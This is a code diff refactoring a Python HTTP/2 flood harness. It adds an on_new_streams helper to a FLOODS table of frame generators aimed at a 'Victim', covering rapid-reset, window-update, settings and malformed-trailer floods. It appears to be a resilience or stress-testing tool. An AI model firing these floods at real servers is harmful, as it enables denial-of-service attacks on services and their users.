@@ -9,7 +9,7 @@ import gzip
 import struct
 import tracemalloc
 from collections import Counter
-from collections.abc import Callable, Iterator, Sequence
+from collections.abc import Callable, Iterable, Iterator, Sequence
 from itertools import count
 
 import hpack
@@ -68,6 +68,11 @@ def windows(*values: int) -> bytes:
     return frame(4, 0, 0, b"".join(struct.pack(">HL", 4, value) for value in values))
 
 
+def on_new_streams(frames: Callable[[Victim, int], Iterable[bytes]]) -> Callable[[Victim], Iterator[bytes]]:
+    """The same frames on one stream after the other."""
+    return lambda victim: (part for number in count(20_001, 2) for part in frames(victim, number))
+
+
 FLOODS: dict[str, tuple[Callable[[Victim], Iterator[bytes]], int]] = {
     "connection windows": (lambda victim: (frame(8, 0, 0, b"\0\0\0\1") for _ in count()), BURST),
     "stream windows": (lambda victim: (frame(8, 0, 1, b"\0\0\0\1") for _ in count()), BURST),
@@ -78,18 +83,12 @@ FLOODS: dict[str, tuple[Callable[[Victim], Iterator[bytes]], int]] = {
     "many settings in a frame": (lambda victim: (windows(*[65_535] * 2_700) for _ in count()), BURST // 168),
     "empty messages": (lambda victim: (frame(0, 0, 1, framed(b"") * 100) for _ in count()), BURST // 100),
     "rapid resets with wide headers": (
-        lambda victim: (
-            part
-            for number in count(20_001, 2)
-            for part in (frame(1, 4, number, victim.wide), frame(3, 0, number, bytes(4)))
-        ),
+        on_new_streams(lambda victim, number: (frame(1, 4, number, victim.wide), frame(3, 0, number, bytes(4)))),
         2 * (BURST // 10),
     ),
     "rapid resets with headers that take a byte each": (
-        lambda victim: (
-            part
-            for number in count(20_001, 2)
-            for part in (frame(1, 4, number, victim.block + NARROW), frame(3, 0, number, bytes(4)))
+        on_new_streams(
+            lambda victim, number: (frame(1, 4, number, victim.block + NARROW), frame(3, 0, number, bytes(4)))
         ),
         2 * (BURST // 63),
     ),
@@ -106,26 +105,18 @@ FLOODS: dict[str, tuple[Callable[[Victim], Iterator[bytes]], int]] = {
         BURST // 63,
     ),
     "trailers that end nothing and take a byte each": (
-        lambda victim: (
-            part
-            for number in count(20_001, 2)
-            for part in (frame(1, 4, number, victim.block), frame(1, 4, number, NARROW))
-        ),
+        on_new_streams(lambda victim, number: (frame(1, 4, number, victim.block), frame(1, 4, number, NARROW))),
         2 * (BURST // 62),
     ),
     "malformed trailers that take a byte each": (
-        lambda victim: (
-            part
-            for number in count(20_001, 2)
-            for part in (frame(1, 4, number, victim.block), frame(1, 5, number, NARROW + b"\0\1A\0"))
+        on_new_streams(
+            lambda victim, number: (frame(1, 4, number, victim.block), frame(1, 5, number, NARROW + b"\0\1A\0"))
         ),
         2 * (BURST // 62),
     ),
     "streams that end by an error, with headers that take a byte each": (
-        lambda victim: (
-            part
-            for number in count(20_001, 2)
-            for part in (frame(1, 4, number, victim.block + NARROW), frame(8, 0, number, bytes(4)))
+        on_new_streams(
+            lambda victim, number: (frame(1, 4, number, victim.block + NARROW), frame(8, 0, number, bytes(4)))
         ),
         2 * (BURST // 63),
     ),
